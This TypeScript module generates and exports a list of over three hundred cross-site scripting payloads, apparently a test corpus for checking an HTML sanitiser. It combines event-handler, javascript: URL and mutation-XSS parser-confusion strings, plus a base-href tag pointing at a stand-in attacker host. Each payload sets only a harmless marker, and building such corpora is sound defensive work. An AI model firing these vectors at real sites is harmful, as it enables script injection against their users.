const elements = [
  'img src=x',
  'svg',
  'video src=x',
  'audio src=x',
  'details open',
  'input autofocus',
  'a href=#',
  'p',
  'iframe',
  'object data=x',
  'body',
  'style',
];
const handlers = ['onerror', 'onload', 'ontoggle', 'onfocus', 'onclick', 'onmouseover', 'onpointerenter', 'onanimationend'];
const spellings = [
  (element: string, handler: string) => `<${element} ${handler}=hacked=1>x`,
  (element: string, handler: string) => `<${element}/${handler.toUpperCase()}="hacked=1">x</${element.split(' ')[0]}>`,
  (element: string, handler: string) => `<b><${element}\n${handler}\t=\n'hacked=1'//></b>`,
];
const addresses = [
  'javascript:hacked=1',
  'JaVaScRiPt:hacked=1',
  'java\tscript:hacked=1',
  '&#106;avascript:hacked=1',
  'javascript&colon;hacked=1',
  'data:text/html,<script>hacked=1</script>',
  'vbscript:hacked=1',
];

/** More than three hundred texts that would set `window.hacked` if a page inserted them without sanitising. */
export const hostilePayloads: readonly string[] = [
  '<script>hacked=1</script>',
  '<scr<script>ipt>hacked=1</scr</script>ipt>',
  '<svg><script>hacked=1</script></svg>',
  '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hacked=1&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=hacked=1>',
  '<svg></p><style><a id="</style><img src=1 onerror=hacked=1>">',
  '<noscript><p title="</noscript><img src=x onerror=hacked=1>">',
  '<!--><img src=x onerror=hacked=1>-->',
  '<plaintext><img src=x onerror=hacked=1>',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content="0;url=javascript:hacked=1">',
  ...addresses.flatMap((address) => [
    `<a href="${address}">x</a>`,
    `<form action="${address}"><button>x</button></form>`,
    `<svg><a xlink:href="${address}"><text>x</text></a></svg>`,
  ]),
  ...elements.flatMap((element) => handlers.flatMap((handler) => spellings.map((spell) => spell(element, handler)))),
];
